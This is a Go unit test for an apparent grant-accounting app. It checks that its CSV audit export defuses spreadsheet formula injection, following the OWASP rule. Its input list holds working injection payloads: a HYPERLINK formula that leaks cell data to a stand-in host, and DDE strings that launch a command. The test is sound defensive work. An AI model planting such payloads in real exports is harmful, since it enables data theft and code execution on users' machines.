package report_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/grantledger/grantledger/adapters/report"
	"github.com/grantledger/grantledger/app/document"
	"github.com/grantledger/grantledger/domain"
)

// Issue 12 item 9: a grantee's reason "=HYPERLINK(...)" reached the audit
// CSV raw, and a spreadsheet that opens the file runs it. The OWASP rule
// (CSV Injection): no cell may begin with = + - @ TAB or CR; such a cell
// gets a leading apostrophe. Amounts stay plain numbers for programs: a
// negative amount "-12.00" is digits only after its sign, which a
// spreadsheet reads as the number, never as a formula.
func TestCSVCellsCannotStartAFormula(t *testing.T) {
	dangerous := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1", "-", "+", "@",
		"\uff1d1+1", // a full-width equals sign, which some spreadsheets read as "="
	}
	var rows [][]document.Cell
	for _, s := range dangerous {
		rows = append(rows, []document.Cell{document.Text(s), document.Money(-domain.MustMoney("12.00"))})
	}
	rows = append(rows, []document.Cell{document.Text("plain reason, -not at the start"), document.Money(domain.MustMoney("47786.53"))})
	var b bytes.Buffer
	if err := report.WriteCSVTable(&b, document.Table{Columns: []string{"=reason", "amount"}, Rows: rows}); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if recs[0][0] != "'=reason" {
		t.Errorf("header %q not neutralised", recs[0][0])
	}
	for i, s := range dangerous {
		got := recs[i+1][0]
		if got != "'"+s {
			t.Errorf("cell %q written as %q, want it prefixed with an apostrophe", s, got)
		}
		if recs[i+1][1] != "-12.00" {
			t.Errorf("negative amount written as %q, want the plain number -12.00", recs[i+1][1])
		}
	}
	last := recs[len(recs)-1]
	if last[0] != "plain reason, -not at the start" || last[1] != "47786.53" {
		t.Errorf("harmless cells changed: %q", last)
	}
	for _, r := range recs {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+@\t\r\uff1d\uff0b\uff20", []rune(c)[0]) {
				t.Errorf("cell %q begins a formula", c)
			}
			if strings.HasPrefix(c, "-") && c != "-12.00" {
				t.Errorf("cell %q begins with '-' and is not a plain number", c)
			}
		}
	}
}
